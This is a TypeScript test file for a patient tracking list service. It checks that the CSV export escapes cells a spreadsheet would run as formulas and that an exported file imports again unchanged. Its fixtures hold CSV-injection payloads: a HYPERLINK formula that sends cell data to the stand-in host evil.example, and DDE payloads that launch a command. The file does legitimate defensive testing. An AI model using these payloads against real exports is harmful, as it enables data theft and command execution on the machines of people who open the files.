import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../helpers/app.js';
import { dbTargets } from '../helpers/db.js';
import { createUser, type TestUser } from '../helpers/factories.js';
import { CSV_HEADER, pathwayInput, uniquePatientId } from '../helpers/ptl.js';

/** What a spreadsheet would run as a formula at the start of a cell (OWASP's CSV-injection list). */
const TRIGGER = /^[=+\-@\t\r]/;

/** Names as sent, and as stored: the importer trims, so a leading tab or CR goes and reveals the `=`/`@` behind it. */
const IMPORTED: { sent: string; stored: string; patientId?: string }[] = [
  { sent: '=HYPERLINK("http://evil.example/?leak="&A2,"Click")', stored: '=HYPERLINK("http://evil.example/?leak="&A2,"Click")' },
  { sent: "+cmd|' /C calc'!A0", stored: "+cmd|' /C calc'!A0" },
  { sent: '@SUM(1+1)', stored: '@SUM(1+1)' },
  // A patient ID may start with `-` too, so the importer must undo the prefix in every column.
  { sent: "-2+3+cmd|' /C calc'!A0", stored: "-2+3+cmd|' /C calc'!A0", patientId: `-${uniquePatientId()}` },
  { sent: '\t=SUM(1,2)', stored: '=SUM(1,2)' },
  { sent: '\r@SUM(1,2)', stored: '@SUM(1,2)' },
];

/** Through the JSON API: a formula, and names that really start with apostrophes (the writer's ambiguous edge). */
const CREATED = ['=1+2', "'=SUM(A1:A9)", "''@x", "'Tis Ann"];

describe.each(dbTargets)('PTL CSV formula injection on %s', (target) => {
  let app: TestApp;
  beforeAll(async () => {
    app = await startTestApp(target);
  });
  afterAll(() => app?.close());

  const importCsv = (user: TestUser, csv: string) =>
    app.http.request('POST', '/api/ptl/import?mode=atomic', csv, { token: user.token, headers: { 'content-type': 'text/csv' } });
  const exportCsv = async (user: TestUser) => {
    const res = await app.http.get('/api/ptl/export.csv?state=all&as_of=2025-06-30', { token: user.token });
    expect(res.status).toBe(200);
    return res.text;
  };
  const stored = async (user: TestUser) => {
    const res = await app.http.get('/api/ptl?state=all&limit=500', { token: user.token });
    expect(res.status).toBe(200);
    return (res.body.items as { patient_id: string; patient_name: string }[]).map((p) => `${p.patient_id} ${p.patient_name}`).sort();
  };

  it('exports no cell a spreadsheet would run, and the export imports again to the same names', async () => {
    const a = await createUser(app);
    const rows = IMPORTED.map(({ sent, patientId }) => [patientId ?? uniquePatientId(), sent, '', 'Urology', '2025-01-06', '2025-01-06', 'routine', '', '']);
    const imported = await importCsv(a, CSV_HEADER + '\n' + stringify(rows));
    expect(imported.body, JSON.stringify(imported.body)).toMatchObject({ committed: true, imported: IMPORTED.length, rejected: 0 });
    for (const name of CREATED) {
      const res = await app.http.post('/api/ptl', pathwayInput({ patient_name: name }), { token: a.token });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
    }
    const original = await stored(a);
    expect(original.map((line) => line.slice(line.indexOf(' ') + 1)).sort()).toEqual([...IMPORTED.map((r) => r.stored), ...CREATED].sort());

    const exported = await exportCsv(a);
    const cells = (parse(exported) as string[][]).flat();
    expect(cells.length).toBeGreaterThan(0);
    expect(cells.filter((c) => TRIGGER.test(c))).toEqual([]);
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?leak="&A2,"Click")`);
    expect(cells).toContain("''=SUM(A1:A9)");
    expect(cells).toContain("'''@x");
    expect(cells).toContain("'Tis Ann");

    const b = await createUser(app);
    const again = await importCsv(b, exported);
    expect(again.body, JSON.stringify(again.body)).toMatchObject({ committed: true, imported: IMPORTED.length + CREATED.length, rejected: 0 });
    expect(await stored(b)).toEqual(original);
    // The whole file survives the trip: b's export has a's rows (order aside, as ties sort by row id).
    const sortedLines = (csv: string) => csv.trim().split('\n').sort();
    expect(sortedLines(await exportCsv(b))).toEqual(sortedLines(exported));
  });
});
